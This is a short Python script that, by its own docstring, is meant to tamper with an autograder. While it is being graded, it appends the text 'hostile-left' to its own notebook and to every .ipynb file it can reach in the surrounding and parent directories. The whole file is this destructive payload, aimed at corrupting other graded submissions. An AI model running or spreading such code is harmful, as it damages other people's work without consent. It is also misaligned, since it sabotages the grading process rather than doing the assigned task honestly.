"""Writes over its own notebook, and over the graded ones around it, while it is graded."""

import glob

for path in glob.glob("*.ipynb") + glob.glob("../../*/*/*.ipynb") + glob.glob("../../../*/*/*/*.ipynb"):
    try:
        with open(path, "a") as file:
            file.write("hostile-left")
        print("written", path)
    except OSError as error:
        print(error)
